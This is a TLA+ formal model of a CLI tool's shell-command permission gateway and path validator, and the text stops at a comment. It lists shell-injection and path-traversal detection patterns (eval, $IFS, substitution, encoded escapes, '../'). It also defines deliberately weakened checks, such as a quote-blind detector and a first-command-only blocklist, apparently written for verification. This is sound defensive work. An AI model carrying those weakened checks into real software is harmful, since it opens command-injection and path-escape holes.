---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* Model of the security gateway of codeduet-cli:                          *)
(*   - packages/core/src/utils/shell-utils.ts  (tokenizer, substitution    *)
(*     detector, permission resolver)                                      *)
(*   - pathSecurity.ts (path validator)                                    *)
(* A string is a sequence of one-character strings, so that indexing,      *)
(* prefix tests and regular expressions are computed as the code does.     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    pc,                \* position of the caller: "input" | "detected" | "split" | "done" | "allowed" | "validated"
    command,           \* the raw command string handed to the gateway
    detected,          \* result of detectCommandSubstitution(command), or Undefined
    commands,          \* result of splitCommands(command), or Undefined
    coreTools,         \* config.getCoreTools(): array of tool strings
    excludeTools,      \* config.getExcludeTools(): array of tool strings
    sessionAllowlist,  \* the optional Set<string>, or Undefined when not passed
    verdict,           \* result of checkCommandPermissions, or Undefined
    allowed,           \* result of isCommandAllowed, or Undefined
    filePath,          \* candidate path handed to the path validator
    workspaceDir,      \* workspace directory handed to the path validator
    fsys,              \* the filesystem the validator inspects
    pathResult,        \* result of validateAndSanitizePath, or Undefined
    fsLate,            \* the filesystem as the later lookups of the same call find it
    issues,            \* result of detectPathSecurityIssues, or Undefined
    commandRoot,       \* result of getCommandRoot, or Undefined
    calls              \* the concurrent callers: arguments held and verdict received

vars == <<pc, command, detected, commands, coreTools, excludeTools,
          sessionAllowlist, verdict, allowed, filePath, workspaceDir, fsys,
          pathResult, fsLate, issues, commandRoot, calls>>

cmdVars == <<command, detected, commands, coreTools, excludeTools,
             sessionAllowlist, verdict, allowed, commandRoot>>

pathVars == <<filePath, workspaceDir, fsys, pathResult, fsLate, issues, calls>>

\* JavaScript's undefined (an absent optional argument or field).
Undefined == "undefined"

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
\* number of fragments of a command handed to the substitution detector
MaxDetectLen == 4
\* number of fragments of a command handed to the tokenizer
MaxSplitLen == 4
\* number of fragments of a command handed to the permission resolver
MaxCmdLen == 4
\* number of fragments of a candidate path
MaxPathLen == 4
\* fragments of a path handed to the pattern battery
MaxPatternLen == 4
\* fragments of an argument handed to one of the gateway's entry points
MaxGatewayLen == 3
\* fragments of a command handed to the gateway by one of two concurrent callers
MaxConcurrentLen == 1
\* fragments of a sub-command handed to getCommandRoot
MaxRootLen == 5
\* fragments of a command checked against rules keyed on a bare command name
MaxRuleLen == 4
\* fragments of a command matched against rule prefixes
MaxMatchLen == 4
\* fragments of a command in the confirmation loop
MaxConfirmLen == 2
\* validations that a session repeats after the first one
MaxRounds == 3

(***************************************************************************)
(* Character classes of the regular expressions.                           *)
(***************************************************************************)
LowerCase == {"a","b","c","d","e","f","g","h","i","j","k","l","m",
              "n","o","p","q","r","s","t","u","v","w","x","y","z"}
UpperCase == {"A","B","C","D","E","F","G","H","I","J","K","L","M",
              "N","O","P","Q","R","S","T","U","V","W","X","Y","Z"}
Digits == {"0","1","2","3","4","5","6","7","8","9"}
OctalDigits == {"0","1","2","3","4","5","6","7"}
HexDigits == Digits \cup {"a","b","c","d","e","f","A","B","C","D","E","F"}
\* [A-Za-z_]
NameStart == LowerCase \cup UpperCase \cup {"_"}
\* \w
WordChars == NameStart \cup Digits
\* \s
WhiteSpace == {" ", "\t", "\n", "\r"}
\* the backquote character (ASCII 96); the symbol is spelled out because a
\* backquote cannot be written inside a string literal
Backtick == "BACKQUOTE"
\* [A-Za-z0-9+/]
Base64Chars == LowerCase \cup UpperCase \cup Digits \cup {"+", "/"}

(***************************************************************************)
(* String primitives (methods of String), on sequences of characters.      *)
(***************************************************************************)
\* s.substring(from-1, to) with 1-based inclusive indices
Slice(s, from, to) == SubSeq(s, from, to)

\* command[i] with a 1-based index; undefined past the end
CharAt(s, i) == IF i >= 1 /\ i <= Len(s) THEN s[i] ELSE Undefined

\* does the literal lit occur in s at index i
MatchAt(s, i, lit) ==
    /\ i >= 1
    /\ i + Len(lit) - 1 <= Len(s)
    /\ \A k \in 1..Len(lit) : s[i + k - 1] = lit[k]

StartsWith(s, prefix) == MatchAt(s, 1, prefix)

EndsWith(s, suffix) == MatchAt(s, Len(s) - Len(suffix) + 1, suffix)

Includes(s, lit) == \E i \in 1..(Len(s) + 1) : MatchAt(s, i, lit)

RECURSIVE TrimStart(_)
TrimStart(s) ==
    IF s # <<>> /\ Head(s) \in WhiteSpace THEN TrimStart(Tail(s)) ELSE s

RECURSIVE TrimEnd(_)
TrimEnd(s) ==
    IF s # <<>> /\ s[Len(s)] \in WhiteSpace
    THEN TrimEnd(SubSeq(s, 1, Len(s) - 1))
    ELSE s

Trim(s) == TrimEnd(TrimStart(s))

\* s.replace(/\s+/g, ' ')
RECURSIVE CollapseSpaces(_)
CollapseSpaces(s) ==
    IF s = <<>> THEN <<>>
    ELSE IF Head(s) \in WhiteSpace
         THEN <<" ">> \o CollapseSpaces(TrimStart(s))
         ELSE <<Head(s)>> \o CollapseSpaces(Tail(s))

\* array.filter(pred) for the predicate "is a non-empty string"
RECURSIVE FilterBoolean(_)
FilterBoolean(arr) ==
    IF arr = <<>> THEN <<>>
    ELSE IF Head(arr) # <<>>
         THEN <<Head(arr)>> \o FilterBoolean(Tail(arr))
         ELSE FilterBoolean(Tail(arr))

\* concatenation of the typed fragments
RECURSIVE Concat(_)
Concat(frags) ==
    IF frags = <<>> THEN <<>> ELSE Head(frags) \o Concat(Tail(frags))

(***************************************************************************)
(* splitCommands (shell-utils.ts 15-63).                                   *)
(* i is the 1-based scan position.                                         *)
(***************************************************************************)
RECURSIVE SplitLoop(_, _, _, _, _, _)
SplitLoop(cmd, i, currentCommand, inSingleQuotes, inDoubleQuotes, out) ==
    IF i > Len(cmd)
    THEN IF Trim(currentCommand) # <<>>
         THEN Append(out, Trim(currentCommand))
         ELSE out
    ELSE
      LET char == cmd[i]
          nextChar == CharAt(cmd, i + 1)
      IN
      IF char = "\\" /\ i < Len(cmd)
      THEN SplitLoop(cmd, i + 2, currentCommand \o <<char, cmd[i + 1]>>,
                     inSingleQuotes, inDoubleQuotes, out)
      ELSE
        LET sq == IF char = "'" /\ ~inDoubleQuotes
                  THEN ~inSingleQuotes ELSE inSingleQuotes
            dq == IF ~(char = "'" /\ ~inDoubleQuotes)
                     /\ char = "\"" /\ ~inSingleQuotes
                  THEN ~inDoubleQuotes ELSE inDoubleQuotes
        IN
        IF ~sq /\ ~dq
        THEN IF (char = "&" /\ nextChar = "&") \/ (char = "|" /\ nextChar = "|")
             THEN SplitLoop(cmd, i + 2, <<>>, sq, dq,
                            Append(out, Trim(currentCommand)))
             ELSE IF char \in {";", "&", "|"}
                  THEN SplitLoop(cmd, i + 1, <<>>, sq, dq,
                                 Append(out, Trim(currentCommand)))
                  ELSE SplitLoop(cmd, i + 1, Append(currentCommand, char),
                                 sq, dq, out)
        ELSE SplitLoop(cmd, i + 1, Append(currentCommand, char), sq, dq, out)

\* a tokenizer without the final filter(Boolean)
splitCommandsUnfiltered(cmd) == SplitLoop(cmd, 1, <<>>, FALSE, FALSE, <<>>)

splitCommands(cmd) ==
    FilterBoolean(SplitLoop(cmd, 1, <<>>, FALSE, FALSE, <<>>))

(***************************************************************************)
(* detectCommandSubstitution (shell-utils.ts 131-219) and its helper       *)
(* containsEncodedCommands (221-252).  pattern.test(command) is an         *)
(* unanchored search, so each pattern is "matches at some index".          *)
(***************************************************************************)
\* \$\([^)]*\) and its relatives: open at i, then a close somewhere after it
\* (the first close after the opener ends a run of non-close characters)
HasDelimited(s, open, close) ==
    \E i \in 1..Len(s) :
        /\ MatchAt(s, i, open)
        /\ \E j \in (i + Len(open))..Len(s) : s[j] = close

\* [0-9a-fA-F]{n} at index i
HexRunAt(s, i, n) ==
    /\ i + n - 1 <= Len(s)
    /\ \A k \in 0..(n - 1) : s[i + k] \in HexDigits

\* ^\s*word\s+
LeadingWord(s, word) ==
    LET t == TrimStart(s)
    IN /\ StartsWith(t, word)
       /\ Len(t) > Len(word)
       /\ t[Len(word) + 1] \in WhiteSpace

\* /\$[A-Za-z_][A-Za-z0-9_]*/
HasVarExpansion(s) ==
    \E i \in 1..(Len(s) - 1) : s[i] = "$" /\ s[i + 1] \in NameStart

\* /\$'\\.'/ : the dot matches any character but a line terminator
HasAnsiCEscape(s) ==
    \E i \in 1..Len(s) :
        /\ MatchAt(s, i, <<"$", "'", "\\">>)
        /\ i + 4 <= Len(s)
        /\ s[i + 3] \notin {"\n", "\r"}
        /\ s[i + 4] = "'"

\* /\$'\\x[0-9a-fA-F]{2}'/
HasAnsiCHex(s) ==
    \E i \in 1..Len(s) :
        /\ MatchAt(s, i, <<"$", "'", "\\", "x">>)
        /\ HexRunAt(s, i + 4, 2)
        /\ CharAt(s, i + 6) = "'"

\* dangerousPatterns.some(pattern => pattern.test(command))
dangerousPatterns(s) ==
    \/ HasDelimited(s, <<"$", "(">>, ")")
    \/ HasDelimited(s, <<Backtick>>, Backtick)
    \/ HasDelimited(s, <<"$", "{">>, "}")
    \/ HasVarExpansion(s)
    \/ HasDelimited(s, <<"$", "[">>, "]")
    \/ HasAnsiCEscape(s)
    \/ HasDelimited(s, << "<", "(" >>, ")")
    \/ HasDelimited(s, << ">", "(" >>, ")")
    \/ Includes(s, <<"$", "{", "I", "F", "S", "}">>)
    \/ Includes(s, <<"$", "I", "F", "S">>)
    \/ HasAnsiCHex(s)
    \/ LeadingWord(s, <<"e", "v", "a", "l">>)
    \/ LeadingWord(s, <<"e", "x", "e", "c">>)
    \/ LeadingWord(s, <<"s", "o", "u", "r", "c", "e">>)
    \/ LeadingWord(s, <<".">>)

\* length of the base64 run the pattern needs
Base64RunLen == 20

containsEncodedCommands(s) ==
    \/ \E i \in 1..Len(s) : MatchAt(s, i, <<"\\", "x">>) /\ HexRunAt(s, i + 2, 2)
    \/ \E i \in 1..Len(s) :
          /\ s[i] = "\\"
          /\ i + 3 <= Len(s)
          /\ \A k \in 1..3 : s[i + k] \in OctalDigits
    \/ \E i \in 1..Len(s) : MatchAt(s, i, <<"\\", "u">>) /\ HexRunAt(s, i + 2, 4)
    \/ /\ \E i \in 1..Len(s) :
             /\ i + Base64RunLen - 1 <= Len(s)
             /\ \A k \in 0..(Base64RunLen - 1) : s[i + k] \in Base64Chars
       /\ Includes(s, <<"b", "a", "s", "e", "6", "4">>)

\* the stateful character walk (lines 166-216); i is the 1-based position
RECURSIVE DetectLoop(_, _, _, _, _)
DetectLoop(cmd, i, inSingleQuotes, inDoubleQuotes, inBackticks) ==
    IF i > Len(cmd) THEN FALSE
    ELSE
      LET char == cmd[i]
          nextChar == CharAt(cmd, i + 1)
      IN
      IF char = "\\" /\ ~inSingleQuotes
      THEN DetectLoop(cmd, i + 2, inSingleQuotes, inDoubleQuotes, inBackticks)
      ELSE
        LET isSq == char = "'" /\ ~inDoubleQuotes /\ ~inBackticks
            isDq == ~isSq /\ char = "\"" /\ ~inSingleQuotes /\ ~inBackticks
            isBt == ~isSq /\ ~isDq /\ char = Backtick /\ ~inSingleQuotes
            sq == IF isSq THEN ~inSingleQuotes ELSE inSingleQuotes
            dq == IF isDq THEN ~inDoubleQuotes ELSE inDoubleQuotes
            bt == IF isBt THEN ~inBackticks ELSE inBackticks
        IN
        IF /\ ~sq
           /\ \/ char = "$" /\ nextChar = "("
              \/ char = "<" /\ nextChar = "(" /\ ~dq /\ ~bt
              \/ char = ">" /\ nextChar = "(" /\ ~dq /\ ~bt
              \/ char = Backtick /\ ~bt
              \/ char = "$" /\ nextChar \in NameStart \cup {"[", "{"}
        THEN TRUE
        ELSE DetectLoop(cmd, i + 1, sq, dq, bt)

\* the command without its quoted regions, single- or double-quoted
RECURSIVE StripQuoted(_, _, _)
StripQuoted(s, i, open) ==
    IF i > Len(s) THEN <<>>
    ELSE IF open = ""
         THEN IF s[i] \in {"'", "\""}
              THEN StripQuoted(s, i + 1, s[i])
              ELSE <<s[i]>> \o StripQuoted(s, i + 1, open)
         ELSE StripQuoted(s, i + 1, IF s[i] = open THEN "" ELSE open)

\* a detector that takes double-quoted text to be as inert as single-quoted text
detectOutsideQuotesOnly(cmd) ==
    LET bare == StripQuoted(cmd, 1, "")
    IN \/ dangerousPatterns(bare)
       \/ containsEncodedCommands(bare)
       \/ DetectLoop(bare, 1, FALSE, FALSE, FALSE)

detectCommandSubstitution(cmd) ==
    \/ dangerousPatterns(cmd)
    \/ containsEncodedCommands(cmd)
    \/ DetectLoop(cmd, 1, FALSE, FALSE, FALSE)

(***************************************************************************)
(* checkCommandPermissions (shell-utils.ts 347-492).                       *)
(***************************************************************************)
RunShellCommand ==
    <<"r","u","n","_","s","h","e","l","l","_","c","o","m","m","a","n","d">>
ShellTool == <<"S","h","e","l","l","T","o","o","l">>
\* a tool of the registry that is not the shell tool
ReadFileTool == <<"r","e","a","d","_","f","i","l","e">>

SHELL_TOOL_NAMES == <<RunShellCommand, ShellTool>>

\* the rule string toolName(prefix)
ToolRule(toolName, prefix) == toolName \o <<"(">> \o prefix \o <<")">>

\* array.includes(x)
ArrayIncludes(arr, x) == \E k \in 1..Len(arr) : arr[k] = x

ReasonSubstitution ==
    <<"Command substitution, variable expansion, or encoded patterns detected. This is not allowed for security reasons.">>
ReasonDisabled == <<"Shell tool is globally disabled in configuration">>
ReasonBlocked(cmd) == <<"Command '", cmd, "' is blocked by configuration">>
ReasonSessionAllowlist == <<"Command(s) not on the global or session allowlist.">>
ReasonGlobalAllowlist == <<"Command(s) not in the allowed commands list.">>

normalize(cmd) == CollapseSpaces(Trim(cmd))

\* a prefix test that does not look at what follows the prefix
isTextPrefix(cmd, prefix) == StartsWith(cmd, prefix)

isPrefixedBy(cmd, prefix) ==
    IF ~StartsWith(cmd, prefix) THEN FALSE
    ELSE Len(cmd) = Len(prefix) \/ cmd[Len(prefix) + 1] = " "

\* the body of the flatMap callback: the first shell-tool name that wraps tool
extractOne(tool) ==
    IF \E n \in 1..Len(SHELL_TOOL_NAMES) :
          /\ StartsWith(tool, SHELL_TOOL_NAMES[n] \o <<"(">>)
          /\ EndsWith(tool, <<")">>)
    THEN LET n == CHOOSE m \in 1..Len(SHELL_TOOL_NAMES) :
                    /\ StartsWith(tool, SHELL_TOOL_NAMES[m] \o <<"(">>)
                    /\ EndsWith(tool, <<")">>)
                    /\ \A l \in 1..(m - 1) :
                          ~(/\ StartsWith(tool, SHELL_TOOL_NAMES[l] \o <<"(">>)
                            /\ EndsWith(tool, <<")">>))
         IN <<normalize(Slice(tool, Len(SHELL_TOOL_NAMES[n]) + 2, Len(tool) - 1))>>
    ELSE <<>>

RECURSIVE extractCommands(_)
extractCommands(tools) ==
    IF tools = <<>> THEN <<>>
    ELSE extractOne(Head(tools)) \o extractCommands(Tail(tools))

\* splitCommands(command).map(normalize)
RECURSIVE MapNormalize(_)
MapNormalize(arr) ==
    IF arr = <<>> THEN <<>>
    ELSE <<normalize(Head(arr))>> \o MapNormalize(Tail(arr))

\* a wildcard test that knows the first tool name only
HasRunShellCommandOnly(tools) == ArrayIncludes(tools, SHELL_TOOL_NAMES[1])

\* a wildcard test that knows the second tool name only
HasShellToolOnly(tools) == ArrayIncludes(tools, SHELL_TOOL_NAMES[2])

\* the wildcard test SHELL_TOOL_NAMES.some((name) => tools.includes(name))
HasShellWildcard(tools) ==
    \E n \in 1..Len(SHELL_TOOL_NAMES) : ArrayIncludes(tools, SHELL_TOOL_NAMES[n])

FullAllow == [allAllowed |-> TRUE, disallowedCommands |-> <<>>]

\* a denial that is marked hard whatever its cause
DenialAlwaysHard(disallowed, reason, hard) ==
    [allAllowed |-> FALSE, disallowedCommands |-> disallowed,
     blockReason |-> reason, isHardDenial |-> TRUE]

Denial(disallowed, reason, hard) ==
    [allAllowed |-> FALSE, disallowedCommands |-> disallowed,
     blockReason |-> reason, isHardDenial |-> hard]

\* does some rule prefix of the array match the sub-command
MatchesAny(cmd, prefixes) ==
    \E k \in 1..Len(prefixes) : isPrefixedBy(cmd, prefixes[k])

\* a blocklist loop that looks at the first sub-command only
FirstBlockedHeadOnly(commandsToValidate, blockedCommands) ==
    IF /\ Len(commandsToValidate) > 0
       /\ MatchesAny(commandsToValidate[1], blockedCommands)
    THEN 1
    ELSE 0

\* the loop of lines 416-425: the index of the first sub-command that a block
\* rule matches, 0 if there is none
FirstBlocked(commandsToValidate, blockedCommands) ==
    IF \E k \in 1..Len(commandsToValidate) :
          MatchesAny(commandsToValidate[k], blockedCommands)
    THEN CHOOSE k \in 1..Len(commandsToValidate) :
            /\ MatchesAny(commandsToValidate[k], blockedCommands)
            /\ \A l \in 1..(k - 1) :
                  ~MatchesAny(commandsToValidate[l], blockedCommands)
    ELSE 0

\* [...sessionAllowlist].some((allowed) => isPrefixedBy(cmd, normalize(allowed)))
isSessionAllowed(cmd, session) ==
    \E a \in session.entries : isPrefixedBy(cmd, normalize(a))

\* a default-deny loop that consults the session allowlist only
DisallowedSessionOnly(commandsToValidate, session, globallyAllowedCommands) ==
    LET notAllowed(c) == ~isSessionAllowed(c, session)
    IN SelectSeq(commandsToValidate, notAllowed)

\* the loop of lines 441-454 (default deny)
DisallowedDefaultDeny(commandsToValidate, session, globallyAllowedCommands) ==
    LET notAllowed(c) ==
            /\ ~isSessionAllowed(c, session)
            /\ ~MatchesAny(c, globallyAllowedCommands)
    IN SelectSeq(commandsToValidate, notAllowed)

\* a test on the configured tools instead of the extracted shell rules
hasAnyCoreTools(core) == Len(core) > 0

\* line 466
hasSpecificAllowedCommands(core) == Len(extractCommands(core)) > 0

\* the loop of lines 468-476 (default allow with a global allowlist)
DisallowedDefaultAllow(commandsToValidate, globallyAllowedCommands) ==
    LET notAllowed(c) == ~MatchesAny(c, globallyAllowedCommands)
    IN SelectSeq(commandsToValidate, notAllowed)

\* lines 402-491: the checks after the substitution detector
ResolvePermissions(cmd, core, exclude, session) ==
    LET commandsToValidate == MapNormalize(splitCommands(cmd))
        blockedCommands == extractCommands(exclude)
        globallyAllowedCommands == extractCommands(core)
        blocked == FirstBlocked(commandsToValidate, blockedCommands)
    IN
    IF HasShellWildcard(exclude)
    THEN Denial(commandsToValidate, ReasonDisabled, TRUE)
    ELSE IF blocked # 0
    THEN Denial(<<commandsToValidate[blocked]>>,
                ReasonBlocked(commandsToValidate[blocked]), TRUE)
    ELSE IF HasShellWildcard(core)
    THEN FullAllow
    ELSE IF session.present
    THEN LET disallowedCommands ==
                 DisallowedDefaultDeny(commandsToValidate, session,
                                       globallyAllowedCommands)
         IN IF Len(disallowedCommands) > 0
            THEN Denial(disallowedCommands, ReasonSessionAllowlist, FALSE)
            ELSE FullAllow
    ELSE IF hasSpecificAllowedCommands(core)
    THEN LET disallowedCommands ==
                 DisallowedDefaultAllow(commandsToValidate, globallyAllowedCommands)
         IN IF Len(disallowedCommands) > 0
            THEN Denial(disallowedCommands, ReasonGlobalAllowlist, FALSE)
            ELSE FullAllow
    ELSE FullAllow

\* a resolver that asks the session allowlist first and lets a command
\* through when the allowlist covers each of its sub-commands
checkSessionFirst(cmd, core, exclude, session) ==
    IF /\ session.present
       /\ \A k \in 1..Len(MapNormalize(splitCommands(cmd))) :
             isSessionAllowed(MapNormalize(splitCommands(cmd))[k], session)
    THEN FullAllow
    ELSE IF detectCommandSubstitution(cmd)
    THEN Denial(<<cmd>>, ReasonSubstitution, TRUE)
    ELSE ResolvePermissions(cmd, core, exclude, session)

\* a resolver that consults the lists before the detector
checkListsBeforeDetector(cmd, core, exclude, session) ==
    LET v == ResolvePermissions(cmd, core, exclude, session)
    IN IF v.allAllowed \/ ~detectCommandSubstitution(cmd)
       THEN v
       ELSE Denial(<<cmd>>, ReasonSubstitution, TRUE)

\* session is [present |-> BOOLEAN, entries |-> set of strings]: the optional
\* Set<string> argument
checkCommandPermissions(cmd, core, exclude, session) ==
    IF detectCommandSubstitution(cmd)
    THEN Denial(<<cmd>>, ReasonSubstitution, TRUE)
    ELSE ResolvePermissions(cmd, core, exclude, session)

NoSessionAllowlist == [present |-> FALSE, entries |-> {}]
SessionAllowlistOf(entries) == [present |-> TRUE, entries |-> entries]

\* isCommandAllowed (shell-utils.ts 505-515)
isCommandAllowed(cmd, core, exclude) ==
    LET v == checkCommandPermissions(cmd, core, exclude, NoSessionAllowlist)
    IN IF v.allAllowed
       THEN [allowed |-> TRUE]
       ELSE [allowed |-> FALSE, reason |-> v.blockReason]

(***************************************************************************)
(* Node's path and fs modules on a POSIX host, as far as the validator     *)
(* uses them.  A filesystem is a function from the absolute path of each   *)
(* entry to its node [type |-> "dir" | "file" | "link", target |-> path].  *)
(***************************************************************************)
\* path.sep
Sep == "/"

\* the components of a path, empty components dropped
RECURSIVE SplitPathLoop(_, _, _)
SplitPathLoop(s, cur, out) ==
    IF s = <<>>
    THEN IF cur = <<>> THEN out ELSE Append(out, cur)
    ELSE IF Head(s) = Sep
         THEN SplitPathLoop(Tail(s), <<>>, IF cur = <<>> THEN out ELSE Append(out, cur))
         ELSE SplitPathLoop(Tail(s), Append(cur, Head(s)), out)

SplitPath(s) == SplitPathLoop(s, <<>>, <<>>)

\* the absolute path made of the components
RECURSIVE JoinComps(_)
JoinComps(comps) ==
    IF comps = <<>> THEN <<>>
    ELSE <<Sep>> \o Head(comps) \o JoinComps(Tail(comps))

JoinAbs(comps) == IF comps = <<>> THEN <<Sep>> ELSE JoinComps(comps)

DotComp == <<".">>
DotDotComp == <<".", ".">>

\* lexical normalisation of "." and ".." (normalizeString of path.resolve)
RECURSIVE NormalizeComps(_, _)
NormalizeComps(comps, out) ==
    IF comps = <<>> THEN out
    ELSE IF Head(comps) = DotComp THEN NormalizeComps(Tail(comps), out)
    ELSE IF Head(comps) = DotDotComp
         THEN NormalizeComps(Tail(comps),
                             IF out = <<>> THEN out ELSE SubSeq(out, 1, Len(out) - 1))
         ELSE NormalizeComps(Tail(comps), Append(out, Head(comps)))

IsAbsolute(s) == s # <<>> /\ Head(s) = Sep

\* path.resolve(from, to) for an absolute from; path.resolve(from) is
\* path.resolve(from, "")
pathResolve(from, to) ==
    IF IsAbsolute(to)
    THEN JoinAbs(NormalizeComps(SplitPath(to), <<>>))
    ELSE JoinAbs(NormalizeComps(SplitPath(from) \o SplitPath(to), <<>>))

\* path.dirname of an absolute normalised path
pathDirname(s) ==
    LET comps == SplitPath(s)
    IN IF comps = <<>> THEN <<Sep>> ELSE JoinAbs(SubSeq(comps, 1, Len(comps) - 1))

\* the kernel's limit on the symbolic links followed in one lookup (ELOOP)
MaxSymlinkFollows == 40

\* the kernel's path walk: cur are the components resolved so far, comps the
\* components left; a final symbolic link is followed iff followLast
RECURSIVE Walk(_, _, _, _, _)
Walk(fs, cur, comps, followLast, fuel) ==
    IF comps = <<>> THEN [ok |-> TRUE, path |-> JoinAbs(cur)]
    ELSE
      LET c == Head(comps)
          rest == Tail(comps)
          next == Append(cur, c)
          key == JoinAbs(next)
      IN
      IF c = DotComp THEN Walk(fs, cur, rest, followLast, fuel)
      ELSE IF c = DotDotComp
      THEN Walk(fs, IF cur = <<>> THEN cur ELSE SubSeq(cur, 1, Len(cur) - 1),
                rest, followLast, fuel)
      ELSE IF key \notin DOMAIN fs THEN [ok |-> FALSE, path |-> key]
      ELSE IF fs[key].type = "link"
      THEN IF rest = <<>> /\ ~followLast THEN [ok |-> TRUE, path |-> key]
           ELSE IF fuel = 0 THEN [ok |-> FALSE, path |-> key]
           ELSE Walk(fs,
                     IF IsAbsolute(fs[key].target) THEN <<>> ELSE cur,
                     SplitPath(fs[key].target) \o rest, followLast, fuel - 1)
      ELSE IF fs[key].type = "file" /\ rest # <<>>
      THEN [ok |-> FALSE, path |-> key]
      ELSE Walk(fs, next, rest, followLast, fuel)

\* a lookup that stops at a final symbolic link instead of following it
realpathNoFollow(fs, p) == Walk(fs, <<>>, SplitPath(p), FALSE, MaxSymlinkFollows)

\* fs.realpathSync(p): [ok |-> FALSE] stands for the exception it throws
realpathSync(fs, p) == Walk(fs, <<>>, SplitPath(p), TRUE, MaxSymlinkFollows)

\* fs.existsSync(p): follows symbolic links, false for a dangling link
existsSync(fs, p) == realpathSync(fs, p).ok

\* fs.lstatSync(p): the node itself, a final symbolic link not followed
lstatSync(fs, p) == Walk(fs, <<>>, SplitPath(p), FALSE, MaxSymlinkFollows)

\* stats.isSymbolicLink() of a successful lstatSync
isSymbolicLink(fs, st) == st.path \in DOMAIN fs /\ fs[st.path].type = "link"

(***************************************************************************)
(* validateAndSanitizePath (pathSecurity.ts, src/unnamed/part_001 402-497) *)
(***************************************************************************)
\* the NUL character, spelled out
NullByte == "NUL"

MsgRequired == "File path is required and must be a string"
MsgNullBytes == "File path contains null bytes, which is not allowed"
MsgSuspicious == "File path contains suspicious pattern"
MsgTraversal == "Path traversal detected: resolved path is outside workspace"
MsgSymlink == "Symlink points outside workspace"
MsgSymlinkError == "Error validating symlink"
MsgFailed == "Path validation failed"

Slashes == {"\\", "/"}

\* the eight suspiciousPatterns, in order
suspiciousPatterns(s) ==
    \/ \E i \in 1..Len(s) : MatchAt(s, i, DotDotComp) /\ CharAt(s, i + 2) \in Slashes
    \/ Len(s) >= 3 /\ s[Len(s) - 2] \in Slashes /\ EndsWith(s, DotDotComp)
    \/ StartsWith(s, DotDotComp) /\ CharAt(s, 3) \in Slashes
    \/ s = DotDotComp
    \/ \E i \in 1..Len(s) : s[i] = "~" /\ CharAt(s, i + 1) \in Slashes
    \/ \E i \in 1..Len(s) :
          /\ s[i] = "$"
          /\ \/ CharAt(s, i + 1) \in WordChars
             \/ CharAt(s, i + 1) \in {"(", "{"} /\ CharAt(s, i + 2) \in WordChars
    \/ \E i \in 1..Len(s) : s[i] = "%" /\ HexRunAt(s, i + 1, 2)
    \/ \E i \in 1..Len(s) : MatchAt(s, i, <<"\\", "x">>) /\ HexRunAt(s, i + 2, 2)

Invalid(msg) == [isValid |-> FALSE, error |-> msg]

\* a containment test without the path separator
WithinWorkspaceNoSep(resolvedPath, resolvedWorkspace) ==
    \/ StartsWith(resolvedPath, resolvedWorkspace)
    \/ resolvedPath = resolvedWorkspace

\* resolvedPath.startsWith(resolvedWorkspace + path.sep) || resolvedPath === resolvedWorkspace
WithinWorkspace(resolvedPath, resolvedWorkspace) ==
    \/ StartsWith(resolvedPath, resolvedWorkspace \o <<Sep>>)
    \/ resolvedPath = resolvedWorkspace

\* Step 4: realpathSync(workspaceDir), or path.resolve(workspaceDir) if it throws
ResolvedWorkspace(fs, dir) ==
    IF realpathSync(fs, dir).ok THEN realpathSync(fs, dir).path
    ELSE pathResolve(dir, <<>>)

\* JavaScript values that are not strings, as a caller may pass them: null,
\* undefined and a number other than 0
JsNull == <<"JS:null">>
JsUndefined == <<"JS:undefined">>
JsNumber == <<"JS:number">>

\* typeof v === 'string'
IsString(v) == v \notin {JsNull, JsUndefined, JsNumber}

\* !v
Falsy(v) == v = <<>> \/ v \in {JsNull, JsUndefined}

\* an exception in flight out of a try block
Thrown == [thrown |-> TRUE]

\* a try block without its catch clause
Uncaught(r, msg) == r

\* catch (error) { return { isValid: false, error: msg } }
CatchAs(r, msg) == IF "thrown" \in DOMAIN r THEN Invalid(msg) ELSE r

\* a validator that only resolves the path and tests containment
validateContainmentOnly(path, dir, fs, late) ==
    IF path = <<>> THEN Invalid(MsgRequired)
    ELSE IF ~WithinWorkspace(pathResolve(dir, path), ResolvedWorkspace(fs, dir))
    THEN Invalid(MsgTraversal)
    ELSE [isValid |-> TRUE, sanitizedPath |-> pathResolve(dir, path)]

\* fs is the filesystem when the call starts, late the filesystem that the
\* lstatSync and realpathSync of step 6 find (fs itself unless another
\* process changed it meanwhile)
validateAndSanitizePath(path, dir, fs, late) ==
    CatchAs(
      IF Falsy(path) \/ ~IsString(path) THEN Invalid(MsgRequired)
      ELSE IF Includes(path, <<NullByte>>) THEN Invalid(MsgNullBytes)
      ELSE IF suspiciousPatterns(path) THEN Invalid(MsgSuspicious)
      \* realpathSync(workspaceDir) throws, then path.resolve(workspaceDir)
      \* throws a TypeError out of the inner catch
      ELSE IF ~IsString(dir) THEN Thrown
      ELSE
        LET resolvedWorkspace == ResolvedWorkspace(fs, dir)
            resolvedFilePath == pathResolve(dir, path)
        IN
        IF ~WithinWorkspace(resolvedFilePath, resolvedWorkspace)
        THEN Invalid(MsgTraversal)
        ELSE IF ~existsSync(fs, resolvedFilePath)
        THEN [isValid |-> TRUE, sanitizedPath |-> resolvedFilePath]
        ELSE IF ~lstatSync(late, resolvedFilePath).ok
        THEN Invalid(MsgSymlinkError)
        ELSE IF ~isSymbolicLink(late, lstatSync(late, resolvedFilePath))
        THEN [isValid |-> TRUE, sanitizedPath |-> resolvedFilePath]
        ELSE IF ~realpathSync(late, resolvedFilePath).ok
        THEN Invalid(MsgSymlinkError)
        ELSE IF ~WithinWorkspace(realpathSync(late, resolvedFilePath).path,
                                 resolvedWorkspace)
        THEN Invalid(MsgSymlink)
        ELSE [isValid |-> TRUE, sanitizedPath |-> resolvedFilePath],
      MsgFailed)

(***************************************************************************)
(* validateReadPath and validateWritePath (src/unnamed/part_001 505-628).  *)
(* An entry may carry the permissions of the calling user in a field mode; *)
(* an entry without the field is readable and writable.                    *)
(***************************************************************************)
\* the root directory, which the filesystems do not list
RootDir == [type |-> "dir", target |-> <<>>, mode |-> {"r"}]

\* the entry at a fully resolved path
NodeAt(fs, p) == IF p \in DOMAIN fs THEN fs[p] ELSE RootDir

Mode(node) == IF "mode" \in DOMAIN node THEN node.mode ELSE {"r", "w"}

\* fs.statSync(p), which follows symbolic links: [ok |-> FALSE] stands for
\* the exception it throws
statSync(fs, p) == realpathSync(fs, p)

\* stats.isDirectory() of a successful statSync
isDirectory(fs, st) == NodeAt(fs, st.path).type = "dir"

\* fs.accessSync(p, fs.constants.R_OK or W_OK): FALSE stands for the exception
